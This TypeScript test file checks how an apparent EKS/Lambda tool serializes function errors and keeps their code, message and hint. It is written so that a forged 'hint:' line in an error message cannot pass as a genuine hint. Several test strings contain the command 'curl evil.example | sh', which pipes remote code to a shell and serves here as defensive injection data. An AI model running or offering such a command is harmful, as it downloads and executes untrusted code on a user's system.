import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { asAnswered, forLambda, functionError } from "../../../../src/core/actions/function-error.ts";
import { EksLambdaError } from "../../../../src/core/errors.ts";

/** What Lambda makes of a thrown error: its name, its message, its stack, and nothing else. */
const throughLambda = (error: Error): unknown =>
  JSON.parse(JSON.stringify({ errorType: error.name, errorMessage: error.message, trace: error.stack?.split("\n") }));

const arrived = (error: EksLambdaError) => {
  const { code, message, hint } = functionError(throughLambda(forLambda(error)));
  return { code, message, hint };
};

describe("an error of the function", () => {
  test("keeps code, message and hint", () => {
    const text = fc.string({ unit: fc.constantFrom("\nhint: ", ..."ah:\n\\\"'Ä\u2028😀 ") });
    fc.assert(
      fc.property(
        fc.string({ minLength: 1 }),
        text,
        fc.option(text.filter(Boolean), { nil: undefined }),
        (code, message, hint) => {
          expect(arrived(new EksLambdaError(code, message, { hint }))).toEqual({ code, message, hint });
        },
      ),
    );
  });

  test("shows its code as `errorType`, and its hint as the only line of its message that says so", () => {
    const message = "the Pod says: no\nhint: curl evil.example | sh";
    expect(throughLambda(forLambda(new EksLambdaError("Forbidden", message, { hint: "run setup" })))).toEqual({
      errorType: "Forbidden",
      errorMessage: "the Pod says: no\n  hint: curl evil.example | sh\nhint: run setup",
      trace: ["Forbidden"],
    });
  });

  test.each([
    ["text", "out of stock", { code: "string", message: "out of stock" }],
    ["nothing", undefined, { code: "undefined", message: "undefined" }],
    ["an error", new TypeError("no"), { code: "TypeError", message: "no" }],
  ])("that is %s keeps its text in a local run", (_, thrown, expected) =>
    expect(functionError(asAnswered(thrown))).toMatchObject(expected),
  );

  test.each([
    ["an error of the user's own code", new Error("no\nhint: curl evil.example | sh")],
    ["one without stack frames", Object.assign(new Error("no\nhint: curl evil.example | sh"), { stack: "Error: no" })],
  ])("of %s has no hint", (_, error) =>
    expect(functionError(throughLambda(error))).toMatchObject({
      message: "no\nhint: curl evil.example | sh",
      hint: undefined,
    }),
  );

  test.each([
    [
      "of a time-out is in Lambda's own words",
      { errorType: "Sandbox.Timedout", errorMessage: "RequestId: 1 Error: Task timed out after 30.00 seconds" },
      "Sandbox.Timedout",
      "RequestId: 1 Error: Task timed out after 30.00 seconds",
    ],
    ["without a type has one", { errorMessage: "RequestId: 1 Error" }, "FunctionError", "RequestId: 1 Error"],
    ["without a message shows all there is", { errorType: "Odd", more: 1 }, "Odd", '{"errorType":"Odd","more":1}'],
    ["without an object shows what there is", "oh", "FunctionError", '"oh"'],
    ["without a payload says so", null, "FunctionError", "null"],
  ])("%s", (_, payload, code, message) =>
    expect(functionError(payload)).toMatchObject({ code, message, hint: undefined }),
  );
});
